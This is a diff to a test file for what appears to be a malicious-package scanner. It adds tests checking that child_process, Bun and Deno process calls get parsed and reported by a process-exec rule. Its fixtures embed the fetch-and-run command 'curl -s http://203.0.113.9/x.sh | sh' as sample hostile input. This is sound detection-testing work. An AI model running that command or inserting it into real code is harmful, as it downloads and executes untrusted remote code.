@@ -11,6 +11,7 @@ import { CATALOG, type CatalogEntry, type CatalogKind } from '../src/catalog/ind
 import { CREDENTIAL_PATHS, EXFIL_ENDPOINTS, RECON_ENDPOINTS } from '../src/engine/indicators.js';
 import { AGENT_CONFIG_PATHS, AI_KEY_ENV } from '../src/engine/ai-indicators.js';
 import { DEAD_DROP_URLS } from '../src/engine/catalog.js';
+import { PROCESS_CALLEES, type ProcessCallee } from '../src/catalog/callees.js';
 import { worthParsing } from '../src/engine/lexical.js';
 import { analyzePackage, DEFAULT_ENGINE_OPTIONS } from '../src/engine/analyze.js';
 import { LAZY_MIN_BYTES } from '../src/engine/lazy-bodies.js';
@@ -123,6 +124,37 @@ describe('catalog', () => {
         // The finding names the entry (an AI key by its variable; everything else by its label).
         const name = e.kind === 'ai-key' ? e.example : e.label;
         expect(found.map((f) => f.message).join('\n')).toContain(name);
+      });
+    });
+  }
+
+  // Process callees: a call of each, made inside a cold helper of a large file, keeps that helper
+  // parsed (the module it comes from is bound at the top, or it is a global the tier-0 triggers
+  // name), and process-exec reports it.
+  const COMMAND = "'sh', ['-c', 'curl -s http://203.0.113.9/x.sh | sh']";
+  /** The module a callee is loaded from and the call on it, or a global call. */
+  function callOf(c: ProcessCallee): { head: string; call: string } {
+    const [mod, method] = c.callee.startsWith('child_process.') ? ['child_process', c.callee.slice('child_process.'.length)] : c.callee.split(/\.(?=[^.]+$)/).length === 2 && !/^(?:Bun|Deno)\./.test(c.callee) ? (c.callee.split(/\.(?=[^.]+$)/) as [string, string]) : [c.callee, undefined];
+    if (/^(?:Bun|Deno)\./.test(c.callee)) return { head: '', call: c.callee === 'Deno.Command' ? `new Deno.Command('sh', { args: ['-c', 'curl -s http://203.0.113.9/x.sh | sh'] }).spawn()` : `${c.callee}(['sh', '-c', 'curl -s http://203.0.113.9/x.sh | sh'])` };
+    const m = method === '*' ? 'command' : method;
+    return { head: `const runner = require(${q(mod!)});\n`, call: m ? `runner.${m}(${COMMAND})` : `runner(${COMMAND})` };
+  }
+
+  for (const c of PROCESS_CALLEES.filter((c) => !c.tag)) {
+    describe(`process callee: ${c.callee}`, () => {
+      const { head, call } = callOf(c);
+      test('tier 0 parses a file that loads it (or names its global)', () => {
+        expect(worthParsing(c.global ? `module.exports = () => ${c.callee.replace(/^Deno\.Command$/, 'new Deno.Command')}(['ls']);\n` : head)).toBe(true);
+      });
+      test('the lazy tier parses a cold helper that calls it', () => {
+        const helper = `function target(prefix) {\n  const parts = [prefix, 'a', 'b', 'c', 'd', 'e', 'f'];\n  return ${call};\n}\n`;
+        const text = `${head}const http = require('http');\n${filler('cold', LAZY_MIN_BYTES + 1024)}${helper}module.exports = { http, cold, target };\n`;
+        expect(lazyBodies(text)).toBe(1);
+      });
+      test('the process-exec rule reports it', () => {
+        const found = findingsOf(rule('process-exec'), { 'index.js': `${head}${call};\n` });
+        // The command where the rule reads it (Bun's and Deno's argument arrays it does not yet), else the callee.
+        expect(found.map((f) => f.message).join('\n')).toMatch(/^(?:Bun|Deno)\./.test(c.callee) ? `starts a process with ${c.callee}` : /curl -s http:\/\/203\.0\.113\.9/);
       });
     });
   }
